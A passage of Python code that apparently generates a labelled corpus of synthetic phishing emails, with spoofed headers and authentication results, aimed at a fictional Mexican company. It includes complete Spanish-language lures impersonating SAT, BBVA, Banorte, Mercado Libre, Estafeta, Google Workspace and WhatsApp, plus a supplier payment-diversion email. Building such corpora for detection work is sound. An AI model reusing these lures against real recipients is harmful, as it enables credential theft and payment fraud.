    t = T(2024, 4, 22, 12, 3, 50, -6)
    rcpt = "mcantu@autopartesgarza.com.mx"
    dom = "sat-buzontributario.com.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="162.254.251.140", host="mail.sat-buzontributario.com.mx",
                 mailfrom="notificaciones@sat-buzontributario.com.mx", spf="pass", dkims=[], dmarc=None)
    orig = [f"Date: {rfc(t)}",
            f"From: {addr('SAT Buzón Tributario', 'notificaciones@sat-buzontributario.com.mx', quote=False)}",
            f"To: {rcpt}",
            f"Subject: {ew('Buzón Tributario: Tiene una notificación pendiente de apertura (Folio 2024-ABG-118273)')}",
            f"Message-ID: <{hx(slug, 24)}@sat-buzontributario.com.mx>",
            "MIME-Version: 1.0",
            "X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)"]
    link = "https://sat-buzontributario.com.mx/descargas/Notificacion_SAT_2024-ABG-118273.zip"
    pdf = pdf_doc(["SERVICIO DE ADMINISTRACION TRIBUTARIA", "Buzon Tributario - Aviso de notificacion", "",
                   "Folio: 2024-ABG-118273", "Contribuyente: AUTOPARTES GARZA DEL NORTE SA DE CV",
                   "RFC: AGN0512093K4", "",
                   "Se le informa que tiene un documento pendiente de notificacion relacionado",
                   "con la revision de sus declaraciones del ejercicio fiscal 2023.", "",
                   "Cuenta con 3 dias habiles para consultar el documento. De lo contrario la",
                   "notificacion se tendra por realizada al cuarto dia (Art. 134 CFF).", "",
                   "Para descargar el documento haga clic en el boton."],
                  "Notificacion SAT", "iText 7.1.16", "20240422114500-06'00'",
                  link=(link, "DESCARGAR NOTIFICACION"))
    html = """<div style="font-family:Montserrat,Arial,sans-serif;font-size:14px;color:#333">
<div style="background:#611232;padding:14px 20px;color:#fff;font-size:18px"><b>SAT</b> | Servicio de Administración Tributaria</div>
<div style="padding:20px">
<p>Estimado(a) contribuyente:</p>
<p>Le informamos que se ha depositado un documento en su <b>Buzón Tributario</b> que requiere su atención.</p>
<p>Consulte el aviso adjunto (PDF) para descargar el documento. Cuenta con <b>tres días hábiles</b> para abrirlo; transcurrido dicho plazo la notificación se tendrá por realizada conforme al artículo 134 del Código Fiscal de la Federación.</p>
<p style="font-size:12px;color:#777">Este mensaje es generado de forma automática. Por favor no responda.<br>Servicio de Administración Tributaria - Av. Hidalgo 77, Col. Guerrero, CDMX</p>
</div></div>
"""
    body = Multi("mixed", boundary(slug, "phpmailer"), [
        Multi("alternative", boundary(slug, "phpmailer2"), [
            text("Estimado(a) contribuyente:\n\nTiene un documento en su Buzón Tributario. Consulte el aviso adjunto.\n"),
            text(html, "html")]),
        attachment("application/pdf", "Aviso_Notificacion_2024-ABG-118273.pdf", pdf),
    ])
    add("malware", "phish", slug,
        "Casbaneiro-style SAT Buzón Tributario notice with a PDF whose button downloads a ZIP from the look-alike domain; SPF pass, no DKIM.",
        hdr(top, orig), body)


def mx_sat_opinion_cumplimiento() -> None:
    slug = "mx-sat-opinion-cumplimiento-efirma"
    t = T(2025, 3, 4, 17, 26, 9, -6)
    rcpt = "hector.elizondo@autopartesgarza.com.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="66.29.153.41", host="server41.web-hosting.com",
                 mailfrom="www-data@server41.web-hosting.com", spf="neutral", dkims=[], dmarc=None,
                 helo_name="server41.web-hosting.com")
    orig = [f"To: {rcpt}",
            f"Subject: {ew('AVISO: Su Opinión del Cumplimiento de Obligaciones Fiscales es NEGATIVA', mode='B')}",
            f"From: {addr('SAT Opinión de Cumplimiento', 'avisos@opinion-cumplimiento-sat.com', quote=False)}",
            "Reply-To: no-reply@opinion-cumplimiento-sat.com",
            f"Message-ID: <{hx(slug, 32)}@server41.web-hosting.com>",
            f"Date: {rfc(t)}",
            "MIME-Version: 1.0",
            "X-PHP-Originating-Script: 33:mailer.php"]
    link = "https://opinion-cumplimiento-sat.com/32D/consulta.php?rfc=AGN0512093K4"
    html = f"""<html><body style="margin:0;background:#eee">
<table width="640" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#333">
<tr><td style="background:#611232;height:8px"></td></tr>
<tr><td style="padding:20px 28px"><span style="font-size:22px;color:#611232"><b>SAT</b></span> <span style="color:#9d2449">Hacienda</span></td></tr>
<tr><td style="padding:0 28px 24px">
<p>Contribuyente: <b>AUTOPARTES GARZA DEL NORTE SA DE CV</b><br>RFC: <b>AGN0512093K4</b></p>
<p>Con fundamento en el artículo 32-D del Código Fiscal de la Federación, le informamos que su <b>Opinión del Cumplimiento de Obligaciones Fiscales</b> se ha actualizado al estatus:</p>
<p style="text-align:center;font-size:20px;color:#c00"><b>NEGATIVA</b></p>
<p>Motivo: Declaraciones omitidas (IVA mensual enero 2025) y diferencias en CFDI de nómina.</p>
<p>Una opinión negativa le impide participar en licitaciones, recibir subsidios y puede derivar en la <b>restricción temporal de su Certificado de Sello Digital (CSD)</b>, con lo que no podrá emitir facturas.</p>
<p>Para aclarar su situación ingrese con su e.firma (archivos .cer y .key y contraseña) antes de 48 horas:</p>
<p style="text-align:center"><a href="{link}" style="background:#9d2449;color:#fff;padding:12px 28px;text-decoration:none;border-radius:3px">Consultar y aclarar opinión</a></p>
</td></tr>
<tr><td style="background:#f3f3f3;padding:12px 28px;font-size:11px;color:#888">MarcaSAT 55 627 22 728. Servicio de Administración Tributaria.</td></tr>
</table></body></html>
"""
    body = text(html, "html", "base64")
    add("phishing", "phish", slug,
        "SAT 'opinión de cumplimiento NEGATIVA' lure sent by a PHP script on shared hosting (SPF neutral, no DKIM), asking for the company's e.firma .cer/.key files and password.",
        hdr(top, orig), body)


def mx_bbva_token_movil() -> None:
    slug = "mx-bbva-token-movil-reactivar"
    t = T(2025, 8, 26, 8, 31, 14, -6)
    rcpt = "lvillarreal@autopartesgarza.com.mx"
    dom = "bbva-mx-soporte.com"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="193.203.191.88", host="mail.bbva-mx-soporte.com",
                 mailfrom="alertas@bbva-mx-soporte.com", spf="pass",
                 dkims=[("pass", "@bbva-mx-soporte.com", "dkim")], dmarc="pass (p=NONE sp=NONE dis=NONE) header.from=bbva-mx-soporte.com")
    orig = [dkim_sig(dom, "dkim", slug, t, "Date:Message-ID:MIME-Version:Subject:To:From:Content-Type"),
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 16)}.{hx(slug + 'b', 16)}@bbva-mx-soporte.com>",
            "MIME-Version: 1.0",
            f"Subject: {ew('BBVA México | Tu Token Móvil se desactivará hoy')}",
            f"To: {rcpt}",
            f"From: {addr('BBVA México', 'alertas@bbva-mx-soporte.com', quote=False)}"]
    link = "https://bbva-mx-soporte.com/bbvanetcash/token-movil/?s=" + hx(slug + "s", 20)
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4">
<table width="100%"><tr><td align="center">
<table width="600" style="background:#fff;font-family:'BentonSans',Arial,sans-serif;color:#121212">
<tr><td style="background:#072146;padding:22px 30px;color:#fff;font-size:24px;font-weight:bold;letter-spacing:1px">BBVA</td></tr>
<tr><td style="padding:30px;font-size:15px;line-height:23px">
<p>Hola,</p>
<p>Detectamos que tu <b>Token Móvil de BBVA net cash</b> no se ha actualizado a la nueva versión de seguridad. Para proteger tu empresa, el token será <b>desactivado hoy a las 23:59 h</b>.</p>
<p>Sin token activo no podrás autorizar transferencias SPEI, pagos a proveedores ni nómina.</p>
<p style="text-align:center;margin:26px 0"><a href="{link}" style="background:#1973b8;color:#fff;text-decoration:none;padding:14px 34px;font-weight:bold">Reactivar Token Móvil</a></p>
<p style="font-size:13px;color:#666">Si ya realizaste la actualización, haz caso omiso de este mensaje.</p>
</td></tr>
<tr><td style="padding:18px 30px;font-size:11px;color:#999;background:#f7f8f8">BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México. Av. Paseo de la Reforma 510, Col. Juárez, CDMX.</td></tr>
</table></td></tr></table></body></html>
"""
    body = alt(slug, f"Tu Token Móvil de BBVA net cash se desactivará hoy. Reactívalo: {link}\n", html, "thunderbird")
    add("phishing", "phish", slug,
        "BBVA México net cash 'Token Móvil se desactivará hoy' lure from a registered look-alike domain with its own SPF/DKIM/DMARC pass.",
        hdr(top, orig), body)


def mx_banorte_callback() -> None:
    slug = "mx-banorte-cargo-callback"
    t = T(2024, 2, 13, 19, 52, 2, -6)
    rcpt = "mcantu@autopartesgarza.com.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="209.85.220.41", host="mail-sor-f41.google.com",
                 mailfrom="alertas.banorte.mx@gmail.com", spf="pass",
                 dkims=[("pass", "@gmail.com", "20230601")],
                 dmarc="pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.com", smtps=True, google_internal=True)
    orig = [dkim_sig("gmail.com", "20230601", slug, t,
                     "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=AG),
            f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={epoch(t)}; x=1{epoch(t) % 1000000000 + 604800:09d};\n"
            f"        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to;\n"
            f"        bh={b64s(slug + 'bh', 43)}=;\n        b={fold_b64(b64s(slug + 'xg', 342) + '==', 58, 70, '         ')}",
            f"X-Gm-Message-State: AOJu0Y{b64s(slug + 'st', 58)}",
            f"X-Google-Smtp-Source: AGHT+I{b64s(slug + 'gs', 86)}",
            "MIME-Version: 1.0",
            f"From: {addr('Banorte Alertas', 'alertas.banorte.mx@gmail.com', quote=False)}",
            f"Date: {rfc(t)}",
            f"Message-ID: {gmail_mid(slug)}",
            f"Subject: {ew('Aviso Banorte: cargo no reconocido en su Tarjeta Empresarial')}",
            f"To: {rcpt}"]
    plain = """Estimado cliente Banorte:

Le informamos que se registró un cargo en su Tarjeta de Crédito Empresarial con terminación 4418:

Comercio: AMZN MKTP US*2K4LP
Monto: $18,450.00 MXN
Fecha: 13/02/2024 19:31 h
Estatus: AUTORIZADO

Si usted NO reconoce este cargo, comuníquese de inmediato a nuestra Línea de Aclaraciones para bloquear su tarjeta y solicitar la cancelación:

55 8421 3390 (opción 2) - atención 24 horas

Tenga a la mano su tarjeta para validar su identidad. Por su seguridad no responda a este correo.

Banorte
Seguridad Banorte
"""
    html = "<div dir=\"ltr\">" + plain.replace("\n", "<br>") + "</div>\n"
    body = alt(slug, plain, html, "gmail")
    add("phishing", "phish", slug,
        "Banorte 'cargo no reconocido' callback scam from a free Gmail account: no link at all, only a phone number to 'cancel' the charge.",
        hdr(top, orig), body)


def mx_mercadolibre_pago() -> None:
    slug = "mx-mercadolibre-pago-rechazado"
    t = T(2024, 11, 18, 22, 14, 45, -6)
    rcpt = "dsalinas@autopartesgarza.com.mx"
    dom = "mercadolibre-compras.com.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="23.254.203.19", host="mta19.mercadolibre-compras.com.mx",
                 mailfrom="envios@mercadolibre-compras.com.mx", spf="pass",
                 dkims=[("pass", "@mercadolibre-compras.com.mx", "mlc")],
                 dmarc="pass (p=NONE sp=NONE dis=NONE) header.from=mercadolibre-compras.com.mx")
    orig = [dkim_sig(dom, "mlc", slug, t, "From:To:Subject:Date:Message-ID:MIME-Version:List-Unsubscribe"),
            f"From: {addr('Mercado Libre', 'envios@mercadolibre-compras.com.mx', quote=False)}",
            f"To: {rcpt}",
            f"Subject: {ew('Tu compra del Buen Fin no pudo procesarse - actualiza tu medio de pago')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <{hx(slug, 12)}.{num(slug, 100000, 999999)}@mercadolibre-compras.com.mx>",
            "List-Unsubscribe: <mailto:baja@mercadolibre-compras.com.mx>",
            "MIME-Version: 1.0"]
    link = "https://mercadolibre-compras.com.mx/gz/checkout/v2/payment?purchase_id=2000009418832741"
    html = f"""<html><body style="margin:0;background:#ededed">
<table width="100%" bgcolor="#ededed"><tr><td align="center" style="padding:20px 0">
<table width="600" bgcolor="#ffffff" style="font-family:'Proxima Nova',Helvetica,Arial,sans-serif;color:#333;border-radius:6px">
<tr><td style="background:#ffe600;padding:18px 24px;border-radius:6px 6px 0 0"><img src="https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.15/mercadolibre/logo__large_plus.png" alt="Mercado Libre" height="34"></td></tr>
<tr><td style="padding:28px 32px;font-size:16px">
<p style="font-size:22px;font-weight:600;margin:0 0 14px">Hubo un problema con el pago de tu compra</p>
<p>Hola, tu compra <b>#2000009418832741</b> no pudo procesarse porque tu banco rechazó el cargo.</p>
<table width="100%" style="border:1px solid #eee;border-radius:6px;font-size:14px"><tr><td style="padding:14px">Smart TV Samsung 55" Crystal UHD 4K<br><span style="color:#00a650">$8,499 · Envío gratis</span></td></tr></table>
<p>Reservamos el producto con el precio del Buen Fin por <b>12 horas</b>. Actualiza tu tarjeta para no perder tu compra.</p>
<p style="text-align:center"><a href="{link}" style="display:inline-block;background:#3483fa;color:#fff;padding:13px 40px;border-radius:6px;text-decoration:none;font-weight:600">Actualizar medio de pago</a></p>
</td></tr>
<tr><td style="padding:16px 32px;font-size:12px;color:#999">Mercado Libre México. Este correo fue enviado automáticamente.</td></tr>
</table></td></tr></table></body></html>
"""
    body = alt(slug, f"Tu compra #2000009418832741 no pudo procesarse. Actualiza tu medio de pago: {link}\n", html, "ses")
    add("phishing", "phish", slug,
        "Mercado Libre 'pago rechazado' during Buen Fin, from a look-alike domain (auth pass for itself), link to a card-harvesting checkout clone.",
        hdr(top, orig), body)


def mx_estafeta_aduana() -> None:
    slug = "mx-estafeta-aduana-sendgrid"
    t = T(2023, 12, 5, 10, 17, 36, -6)
    rcpt = "lvillarreal@autopartesgarza.com.mx"
    dom = "estafeta-rastreo.info"
    mf = f"bounces+29918744-7c1a-lvillarreal=autopartesgarza.com.mx@em8821.estafeta-rastreo.info"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="167.89.84.203", host="wrqvtzvf.outbound-mail.sendgrid.net",
                 mailfrom=mf, spf="pass",
                 dkims=[("pass", "@estafeta-rastreo.info", "s1"), ("pass", "@sendgrid.info", "smtpapi")], dmarc=None)
    orig = [dkim_sig(dom, "s1", slug, t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
            dkim_sig("sendgrid.info", "smtpapi", slug + "sg", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
            f"Date: {rfc(utc(t))}",
            "From: Estafeta <notificaciones@estafeta-rastreo.info>",
            "Mime-Version: 1.0",
            f"Message-ID: <{b64url(slug, 22)}@geopod-ismtpd-7>",
            f"Subject: {ew('Estafeta: tu envío 8055481277 está retenido - pago de importación pendiente')}",
            f"To: {rcpt}",
            f"X-SG-EID: {b64s(slug + 'eid', 110)}",
            f"X-SG-ID: {b64s(slug + 'sgid', 96)}",
            f"X-Entity-ID: u001.{b64s(slug + 'ent', 22)}=="]
    click = f"https://u29918744.ct.sendgrid.net/ls/click?upn=u001.{b64url(slug + 'upn', 140)}"
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;background:#f7f7f7;margin:0">
<table width="560" align="center" style="background:#fff;margin-top:16px"><tr><td style="background:#e2001a;padding:14px 24px;color:#fff;font-size:20px;font-weight:bold">ESTAFETA</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#333;line-height:21px">
<p>Estimado cliente:</p>
<p>Tu envío internacional con número de guía <b>8055 4812 77</b> se encuentra <b>retenido en la aduana de Nuevo Laredo</b> por falta de pago de impuestos de importación.</p>
<p>Monto a cubrir: <b>$89.00 MXN</b></p>
<p>Si el pago no se realiza en las próximas 48 horas, el paquete será devuelto a su origen.</p>
<p style="text-align:center"><a href="{click}" style="background:#e2001a;color:#fff;padding:11px 28px;text-decoration:none;border-radius:3px">Pagar y programar entrega</a></p>
<p style="font-size:12px;color:#888">Estafeta Mexicana, S.A. de C.V. Atención a clientes 800 378 2338.</p>
</td></tr></table>
<img src="https://u29918744.ct.sendgrid.net/wf/open?upn=u001.{b64url(slug + 'open', 90)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important">
</body></html>
"""
    body = alt(slug, f"Tu envío 8055481277 está retenido en aduana. Paga $89.00 MXN: {click}\n", html, "sendgrid")
    add("phishing", "phish", slug,
        "Estafeta customs-fee lure ($89 MXN) sent through SendGrid from a look-alike domain; the only link is SendGrid click tracking that hides the payment page.",
        hdr(top, orig), body)


def mx_google_sites_workspace() -> None:
    slug = "mx-workspace-verificacion-google-sites"
    t = T(2024, 5, 9, 13, 5, 27, -6)
    rcpt = "rgarza@autopartesgarza.com.mx"
    dom = "workspace-soporte-mx.com"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="136.143.188.55", host="sender4-op-o55.zoho.com",
                 mailfrom="admin@workspace-soporte-mx.com", spf="pass",
                 dkims=[("pass", "@workspace-soporte-mx.com", "zmail")],
                 dmarc="pass (p=NONE sp=NONE dis=NONE) header.from=workspace-soporte-mx.com")
    hops = [f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {epoch(t)}{num(slug, 100000, 999999)}.{num(slug + 'z', 100, 999)}"
            f"{num(slug + 'y', 10000, 99999)};\n\t{rfc(in_tz(t, -7))}"]
    orig = [f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(t)}; cv=none;\n\td=zohomail.com; s=zohoarc;\n\tb={fold_b64(b64s(slug + 'zarc', 342) + '==')}",
            dkim_sig(dom, "zmail", slug, t, "Date:Date:From:From:To:Message-Id:Message-Id:Subject:Subject:MIME-Version:Content-Type:Reply-To"),
            f"Date: {rfc(in_tz(t, -7))}",
            f"From: {addr('Google Workspace', 'admin@workspace-soporte-mx.com', quote=False)}",
            f"To: {addr('rgarza', rcpt, quote=False)}",
            f"Message-Id: <{hx(slug, 11)}.{hx(slug + 'a', 8)}.{num(slug + 'mid', 10**18, 10**19 - 1)}@workspace-soporte-mx.com>",
            f"Subject: {ew('Acción requerida: verificación de la cuenta de administrador de Google Workspace')}",
            "MIME-Version: 1.0",
            "Importance: High",
            "User-Agent: Zoho Mail",
            "X-Mailer: Zoho Mail"]
    link = "https://sites.google.com/view/workspace-verificacion-admin/inicio"
    html = f"""<!DOCTYPE html><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head><body>
<div style="font-family:'Google Sans',Roboto,Arial,sans-serif;max-width:560px;border:1px solid #dadce0;border-radius:8px;padding:40px 24px;color:#202124">
<div style="text-align:center"><img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" alt="Google"></div>
<div style="text-align:center;font-size:24px;padding:20px 0 12px;border-bottom:1px solid #dadce0">Verificación de la cuenta requerida</div>
<div style="font-size:14px;line-height:20px;padding-top:20px">
<p>Hola, Rogelio:</p>
<p>Como parte de la actualización de políticas de Google Workspace 2024, todos los administradores del dominio <b>autopartesgarza.com.mx</b> deben confirmar su identidad antes del <b>10 de mayo de 2024</b>.</p>
<p>Si no se completa la verificación, los servicios de Gmail, Drive y Calendar del dominio podrían suspenderse temporalmente.</p>
<div style="text-align:center;padding:20px 0"><a href="{link}" style="background:#1a73e8;color:#fff;text-decoration:none;padding:10px 24px;border-radius:4px;font-weight:500">Verificar ahora</a></div>
<p style="font-size:12px;color:#5f6368">Recibiste este correo electrónico para informarte sobre cambios importantes en tu cuenta y los servicios de Google Workspace.<br>© 2024 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</p>
</div></div><br></body></html>
"""
    body = alt(slug, f"Hola, Rogelio:\n\nVerifique su cuenta de administrador de Google Workspace antes del 10 de mayo de 2024: {link}\n", html,
               "python")
    add("phishing", "phish", slug,
        "Spanish Google Workspace admin 'verificación requerida' lure sent via Zoho from a look-alike domain; the link is a genuine sites.google.com page that fronts the credential kit.",
        hdr(top, hops, orig), body)


def mx_whatsapp_business() -> None:
    slug = "mx-whatsapp-business-verificacion-marketing"
    t = T(2025, 4, 8, 11, 40, 12, -6)
    rcpt = "dsalinas@autopartesgarza.com.mx"
    dom = "whatsapp-business-support.com"
    ses = f"010f{hx(slug, 12)}-{hx(slug + '1', 8)}-{hx(slug + '2', 4)}-{hx(slug + '3', 4)}-{hx(slug + '4', 4)}-{hx(slug + '5', 12)}-000000"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="54.240.48.91", host="a48-91.smtp-out.amazonses.com",
                 mailfrom=f"{ses}@amazonses.com", spf="pass",
                 dkims=[("pass", "@whatsapp-business-support.com", hx(slug + 'sel', 32)), ("pass", "@amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
                 dmarc=None)
    orig = [dkim_sig(dom, hx(slug + "sel", 32), slug, t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version", c="relaxed/simple"),
            dkim_sig("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", slug + "ses", t,
                     "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", c="relaxed/simple"),
            f"From: {addr('WhatsApp Business', 'no-reply@whatsapp-business-support.com', quote=False)}",
            f"To: {rcpt}",
            f"Subject: {ew('Tu cuenta de WhatsApp Business será restringida: verificación de Meta requerida')}",
            f"Message-ID: <{ses}@email.amazonses.com>",
            f"Date: {rfc(utc(t))}",
            "MIME-Version: 1.0",
            f"Feedback-ID: ::1.us-east-1.{b64s(slug + 'fb', 43)}=:AmazonSES",
            "X-SES-Outgoing: 2025.04.08-54.240.48.91"]
    link = "https://business-whatsapp-verify.com/appeal/?waba=5218112234470&ref=mx"
    html = f"""<html><body style="margin:0;padding:0;background:#f0f2f5">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:30px 0">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px;font-family:Helvetica,Arial,sans-serif;color:#1c1e21">
<tr><td style="padding:24px 32px;border-bottom:1px solid #e4e6eb"><span style="color:#25d366;font-size:20px;font-weight:bold">WhatsApp</span> <span style="color:#65676b">Business</span></td></tr>
<tr><td style="padding:28px 32px;font-size:15px;line-height:22px">
<p>Hola, <b>Autopartes Garza</b>:</p>
<p>Tu número de WhatsApp Business <b>+52 81 1223 4470</b> recibió varios reportes de usuarios y no cumple con la <b>Política de Comercio de WhatsApp</b>.</p>
<p>Para evitar la restricción permanente de la cuenta y de tu catálogo, completa la <b>verificación del negocio en Meta</b> en un plazo de 24 horas.</p>
<p style="text-align:center;padding:10px 0"><a href="{link}" style="background:#25d366;color:#fff;text-decoration:none;padding:12px 30px;border-radius:22px;font-weight:bold">Verificar mi negocio</a></p>
<p style="font-size:13px;color:#65676b">Si crees que se trata de un error, puedes presentar una apelación desde el mismo enlace.</p>
</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#8a8d91">from <b>Meta</b><br>© Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
</table></td></tr></table></body></html>
"""
    body = alt(slug, f"Tu cuenta de WhatsApp Business será restringida. Verifica tu negocio: {link}\n", html, "ses")
    add("phishing", "phish", slug,
        "WhatsApp Business / Meta business-verification lure to the marketing team, sent via Amazon SES from a look-alike domain, aimed at the Meta account login.",
        hdr(top, orig), body)


def mx_bec_supplier_compromised() -> None:
    slug = "mx-bec-proveedor-balatas-comprometido"
    t = T(2025, 6, 17, 10, 12, 55, -6)
    rcpt = "cuentasporpagar@autopartesgarza.com.mx"
    dom = "frenosnoreste.com.mx"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="209.85.220.41", host="mail-sor-f41.google.com",
                 mailfrom="cobranza@frenosnoreste.com.mx", spf="pass",
                 dkims=[("pass", "@frenosnoreste.com.mx", "google")],
                 dmarc="pass (p=NONE sp=NONE dis=NONE) header.from=frenosnoreste.com.mx", smtps=True, google_internal=True)
    prev = gmail_mid(slug + "prev")
    first = gmail_mid(slug + "first")
    orig = [dkim_sig(dom, "google", slug, t,
                     "cc:to:subject:message-id:date:from:in-reply-to:references:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=AG),
            f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={epoch(t)}; x=1{epoch(t) % 1000000000 + 604800:09d};\n"
            f"        h=cc:to:subject:message-id:date:from:in-reply-to:references\n         :mime-version:x-gm-message-state:from:to:cc:subject:date:message-id\n         :reply-to;\n"
            f"        bh={b64s(slug + 'bh', 43)}=;\n        b={fold_b64(b64s(slug + 'xg', 342) + '==', 58, 70, '         ')}",
            f"X-Gm-Message-State: AOJu0Y{b64s(slug + 'st', 58)}",
            f"X-Google-Smtp-Source: AGHT+I{b64s(slug + 'gs', 86)}",
            "MIME-Version: 1.0",
            f"References: {first}\n {prev}",
            f"In-Reply-To: {prev}",
            f"From: {addr('Cobranza Frenos y Balatas del Noreste', 'cobranza@frenosnoreste.com.mx', quote=False)}",
            f"Date: {rfc(t)}",
            f"Message-ID: {gmail_mid(slug)}",
            "Subject: Re: Estado de cuenta mayo - Autopartes Garza",
            f"To: {rcpt}",
            "Cc: Luis Alberto Villarreal <lvillarreal@autopartesgarza.com.mx>"]
    reply = """Buenos días,

Gracias por la confirmación de las facturas. Les comentamos que por motivo de la auditoría anual que nos está realizando el despacho, la cuenta de Banorte quedó restringida temporalmente para depósitos de clientes. Les pedimos que el pago de las facturas FBN-30871, FBN-30902 y FBN-30944 (total $187,342.60) se realice a la siguiente cuenta:

Banco: BBVA
Beneficiario: Comercializadora FBN del Norte SA de CV
CLABE: 012580015427793816

Es una cuenta de nuestra comercializadora, que es la misma razón social del grupo. Adjuntamos la carta firmada por nuestro director. Les agradecemos que nos compartan el comprobante de la transferencia para aplicar el pago el mismo día, ya que este viernes cerramos el mes.

Quedo atenta.

Saludos cordiales,
Sandra Leal
Cobranza
Frenos y Balatas del Noreste
Tel. 81 8354 2210"""
    quoted = """El lun, 16 jun 2025 a las 16:48, Cuentas por Pagar (<cuentasporpagar@autopartesgarza.com.mx>) escribió:
> Buenas tardes Sandra,
>
> Les confirmamos que las facturas FBN-30871, FBN-30902 y FBN-30944 ya están en la programación de pagos de esta semana.
>
> Saludos,
> Cuentas por Pagar
> Autopartes Garza del Norte
>
> El lun, 16 jun 2025 a las 9:20, Cobranza Frenos y Balatas del Noreste (<cobranza@frenosnoreste.com.mx>) escribió:
>> Buen día, les compartimos el estado de cuenta al 31 de mayo. Quedamos pendientes de la fecha de pago de las facturas vencidas."""
    plain = reply + "\n\n" + quoted + "\n"
    html_reply = reply.replace("\n", "<br>")
    html_q = quoted.split("\n", 1)[1].replace("> ", "").replace(">", "").replace("\n", "<br>")
    html = (f'<div dir="ltr">{html_reply}</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
            f'El lun, 16 jun 2025 a las 16:48, Cuentas por Pagar (&lt;<a href="mailto:cuentasporpagar@autopartesgarza.com.mx">cuentasporpagar@autopartesgarza.com.mx</a>&gt;) escribió:<br></div>'
            f'<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">{html_q}</blockquote></div>\n')
    carta = pdf_doc(["FRENOS Y BALATAS DEL NORESTE SA DE CV", "Av. Ruiz Cortines 4410, Col. Moderna, Monterrey, N.L.", "",
                     "Monterrey, N.L., a 16 de junio de 2025", "", "A NUESTROS CLIENTES", "",
                     "Por medio de la presente les informamos que, de manera temporal, los pagos",
                     "deberan depositarse a la cuenta de nuestra empresa relacionada:", "",
                     "Comercializadora FBN del Norte SA de CV", "BBVA - CLABE 012580015427793816", "",
                     "Sin otro particular, quedamos a sus ordenes.", "", "Ing. Jorge Alberto Leal Cavazos", "Director General"],
                    "Carta cambio de cuenta", "Microsoft Word - Carta.docx", "20250616184011-06'00'")
    bnd = gboundary(slug + "mix")
    body = Multi("mixed", bnd, [
        Multi("alternative", gboundary(slug + "alt"), [text(plain), text(html, "html")]),
        attachment("application/pdf", "Carta cambio cuenta FBN.pdf", carta),
    ])
    add("phishing", "phish", slug,
        "BEC from the brake supplier's genuinely compromised Google Workspace mailbox (SPF/DKIM/DMARC pass), replying in the real invoice thread with a new CLABE and a signed letter.",
        hdr(top, orig), body)


# =========================================================================
#  COLOMBIA: Rincón & Vélez Contadores (Bogotá), cPanel / Exim — attacks
# =========================================================================

RV = "rinconvelez.com.co"

SA = {
    "spf_pass": (-0.0, "SPF_PASS", "SPF: sender matches SPF record"),
    "spf_helo_none": (0.0, "SPF_HELO_NONE", "SPF: HELO does not publish an SPF Record"),
    "spf_helo_pass": (-0.0, "SPF_HELO_PASS", "SPF: HELO matches SPF record"),
    "spf_soft": (0.7, "SPF_SOFTFAIL", "SPF: sender does not match SPF record (softfail)"),
    "spf_none": (0.0, "SPF_NONE", "SPF: sender does not publish an SPF Record"),
    "html": (0.0, "HTML_MESSAGE", "BODY: HTML included in message"),
    "html_only": (0.7, "MIME_HTML_ONLY", "BODY: Message only has text/html MIME parts"),
    "bayes00": (-1.9, "BAYES_00", "BODY: Bayes spam probability is 0 to 1%"),
    "bayes05": (-0.5, "BAYES_05", "BODY: Bayes spam probability is 1 to 5%"),
    "bayes50": (0.8, "BAYES_50", "BODY: Bayes spam probability is 40 to 60%"),
    "bayes80": (2.0, "BAYES_80", "BODY: Bayes spam probability is 80 to 95%"),
    "dkim_signed": (0.1, "DKIM_SIGNED", "Message has a DKIM or DK signature, not necessarily valid"),
    "dkim_valid": (-0.1, "DKIM_VALID", "Message has at least one valid DKIM or DK signature"),
    "dkim_au": (-0.1, "DKIM_VALID_AU", "Message has a valid DKIM or DK signature from author's domain"),
